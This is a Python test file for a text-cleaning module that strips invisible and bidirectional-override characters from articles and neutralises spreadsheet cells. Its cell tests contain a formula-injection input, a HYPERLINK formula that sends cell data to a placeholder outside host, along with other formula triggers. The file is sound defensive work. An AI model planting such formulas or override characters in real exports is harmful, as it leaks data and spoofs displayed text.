"""Invisible characters in the text of an article."""

from __future__ import annotations

import pytest
from markupsafe import Markup

from onrecord.invisible import drop_invisible, find_visible, keep_direction, restore_invisible, text_cell
from onrecord.types import Article, Furniture, Page, Stated

EXACT = "Fer\u00adry runs\n\n\u200bLena Bran\u00adni\u00adgan\u200f, 41, said so.\ufeff"


def article(text: str) -> Article:
    return Article(
        id="ferry",
        page=Page("ferry.txt", b"", "0", "text/plain"),
        text=text,
        title=None,
        titles=((0, 10),),
        outlet=None,
        bylines=(),
        published=None,
        language="en",
        paragraphs=((13, len(text)),),
        furniture=(Furniture("credit", (0, 3)),),
    )


def test_text_without_invisible_characters_needs_no_copy() -> None:
    assert find_visible("Ferry runs — it’s “on”\n") is None


def test_stages_read_the_text_without_them() -> None:
    visible = find_visible(EXACT)
    assert visible is not None
    copy = drop_invisible(article(EXACT), visible)
    assert copy.text == "Ferry runs\n\nLena Brannigan, 41, said so."
    assert [copy.words(span) for span in copy.titles] == ["Ferry run"]
    assert [copy.words(span) for span in copy.paragraphs] == ["Lena Brannigan, 41, said so."]
    assert copy.words(copy.furniture[0].span) == "Fer"


@pytest.mark.parametrize(
    ("words", "exact"),
    [
        ("Ferry", "Fer\u00adry"),
        ("Brannigan", "Bran\u00adni\u00adgan"),
        ("Lena Brannigan, 41", "Lena Bran\u00adni\u00adgan\u200f, 41"),
        ("so.", "so."),
    ],
)
def test_spans_are_moved_back_to_the_exact_text(words: str, exact: str) -> None:
    visible = find_visible(EXACT)
    assert visible is not None
    copy = drop_invisible(article(EXACT), visible)
    start = copy.text.index(words)
    (facts,) = restore_invisible((Stated("age", (start, start + len(words))),), visible)
    assert article(EXACT).words(facts.span) == exact
    assert facts.text == "age"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)'),
        ("+44 20", "'+44 20"),
        ("-5", "'-5"),
        ("@OrlaTarn", "'@OrlaTarn"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("“=1,” she said", "“=1,” she said"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text: str, cell: str) -> None:
    assert text_cell(text) == cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Orla \u202eTarn\u202c", "Orla Tarn"),
        ("\u2066Tarn\u2069", "Tarn"),
        (Markup("<b>\u202e</b>"), Markup("<b></b>")),
        ("\u200eTarn\u200f", "\u200eTarn\u200f"),
        (5, 5),
        (None, None),
    ],
)
def test_nothing_shown_turns_the_direction_of_what_follows(value: object, shown: object) -> None:
    assert keep_direction(value) == shown
    assert type(keep_direction(value)) is type(shown)
